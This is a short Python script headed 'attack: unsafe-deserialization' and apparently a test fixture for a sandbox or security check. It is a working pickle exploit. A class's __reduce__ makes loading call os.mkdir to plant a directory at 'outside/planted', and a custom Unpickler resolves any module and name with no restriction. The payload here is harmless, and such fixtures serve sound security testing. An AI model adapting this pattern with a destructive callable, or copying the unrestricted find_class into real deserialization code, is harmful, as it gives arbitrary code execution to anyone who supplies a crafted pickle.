# attack: unsafe-deserialization
import importlib, io, os, pickle
class Evil:
    def __reduce__(self):
        return (os.mkdir, ("outside/planted",))
class Unpickler(pickle.Unpickler):
    def find_class(self, module, name):
        return getattr(importlib.import_module(module), name)
Unpickler(io.BytesIO(pickle.dumps(Evil()))).load()
